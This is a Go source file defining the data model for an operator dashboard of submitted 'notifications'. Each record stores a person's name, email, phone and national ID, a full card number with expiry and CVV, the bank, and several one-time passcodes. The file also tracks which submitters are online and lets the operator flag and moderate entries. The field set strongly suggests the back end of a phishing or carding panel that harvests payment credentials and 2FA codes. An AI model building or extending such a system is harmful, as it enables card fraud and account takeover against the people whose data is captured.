// internal/model/notification.go
// Package model defines the data structures used throughout the dashboard.
// These structures represent submitted notifications, presence entries,
// moderation patches and the derived statistics shown to the operator.
package model

import (
	"strings"
)

// Status is the moderation status of a notification.
type Status string

const (
	StatusPending  Status = "pending"  // Not yet moderated
	StatusApproved Status = "approved" // Approved by the operator
	StatusRejected Status = "rejected" // Rejected by the operator
)

// Valid reports whether s is one of the known statuses.
func (s Status) Valid() bool {
	switch s {
	case StatusPending, StatusApproved, StatusRejected:
		return true
	}
	return false
}

// FlagColor is the row marker an operator can attach to a notification.
// FlagNone clears the marker.
type FlagColor string

const (
	FlagNone   FlagColor = ""
	FlagRed    FlagColor = "red"
	FlagYellow FlagColor = "yellow"
	FlagGreen  FlagColor = "green"
)

// ParseFlagColor converts operator input into a FlagColor.
// "none" and the empty string both clear the flag.
func ParseFlagColor(v string) (FlagColor, bool) {
	switch strings.ToLower(strings.TrimSpace(v)) {
	case "", "none", "null":
		return FlagNone, true
	case "red":
		return FlagRed, true
	case "yellow":
		return FlagYellow, true
	case "green":
		return FlagGreen, true
	}
	return FlagNone, false
}

// Notification represents one submitted record.
// The ID is assigned by the collection and never changes.
type Notification struct {
	ID          string    `json:"id" db:"id"`                   // Unique identifier within the collection
	CreatedDate string    `json:"createdDate" db:"created_date"` // ISO datetime, the display order key
	Status      Status    `json:"status" db:"status"`           // Moderation status
	Hidden      bool      `json:"isHidden" db:"is_hidden"`      // Soft-delete marker
	FlagColor   FlagColor `json:"flagColor,omitempty" db:"flag_color"`

	// Personal fields
	Name     string `json:"name,omitempty"`
	Email    string `json:"email,omitempty"`
	Phone    string `json:"phone,omitempty"`
	IDNumber string `json:"idNumber,omitempty"`
	Country  string `json:"country,omitempty"`

	// Card fields
	CardNumber string   `json:"cardNumber,omitempty"`
	Month      string   `json:"month,omitempty"`
	Year       string   `json:"year,omitempty"`
	CardExpiry string   `json:"cardExpiry,omitempty"`
	CVV        string   `json:"cvv,omitempty"`
	Bank       string   `json:"bank,omitempty"`
	Prefix     string   `json:"prefix,omitempty"`
	OTP        string   `json:"otp,omitempty"`
	OTP2       string   `json:"otp2,omitempty"`
	AllOTPs    []string `json:"allOtps,omitempty"`
}

// HasCard reports whether the notification carries a card number.
func (n Notification) HasCard() bool {
	return n.CardNumber != ""
}

// HasGeneralInfo reports whether any of national id, email or phone is present.
func (n Notification) HasGeneralInfo() bool {
	return n.IDNumber != "" || n.Email != "" || n.Phone != ""
}

// Clone returns a copy that shares no slices with n.
func (n Notification) Clone() Notification {
	c := n
	if n.AllOTPs != nil {
		c.AllOTPs = append([]string(nil), n.AllOTPs...)
	}
	return c
}

// MaskCard keeps only the last four digits of a card number.
// Used wherever a card number would otherwise leave the process in a log line.
func MaskCard(number string) string {
	if len(number) <= 4 {
		return strings.Repeat("*", len(number))
	}
	return strings.Repeat("*", len(number)-4) + number[len(number)-4:]
}

// Patch is a merge-patch of the fields the dashboard is allowed to mutate.
// Nil fields are left untouched.
type Patch struct {
	Status    *Status    `json:"status,omitempty"`
	Hidden    *bool      `json:"isHidden,omitempty"`
	FlagColor *FlagColor `json:"flagColor,omitempty"`
}

// Apply merges the patch into n.
func (p Patch) Apply(n *Notification) {
	if p.Status != nil {
		n.Status = *p.Status
	}
	if p.Hidden != nil {
		n.Hidden = *p.Hidden
	}
	if p.FlagColor != nil {
		n.FlagColor = *p.FlagColor
	}
}

// Fields returns the patch as a column/value map, used by backends that
// update named fields.
func (p Patch) Fields() map[string]any {
	fields := make(map[string]any, 3)
	if p.Status != nil {
		fields["status"] = string(*p.Status)
	}
	if p.Hidden != nil {
		fields["is_hidden"] = *p.Hidden
	}
	if p.FlagColor != nil {
		fields["flag_color"] = string(*p.FlagColor)
	}
	return fields
}

// StatusPatch builds a patch that overwrites the status.
func StatusPatch(s Status) Patch { return Patch{Status: &s} }

// HidePatch builds a patch that soft-deletes a notification.
func HidePatch() Patch {
	hidden := true
	return Patch{Hidden: &hidden}
}

// FlagPatch builds a patch that replaces (or clears) the flag color.
func FlagPatch(c FlagColor) Patch { return Patch{FlagColor: &c} }

// Stats is the aggregate view of the held snapshot.
// It is always recomputed, never mutated in place.
type Stats struct {
	Total       int `json:"total"`       // Visible notifications
	WithCard    int `json:"withCard"`    // Visible notifications with a card number
	OnlineUsers int `json:"onlineUsers"` // Identifiers currently reporting online
}
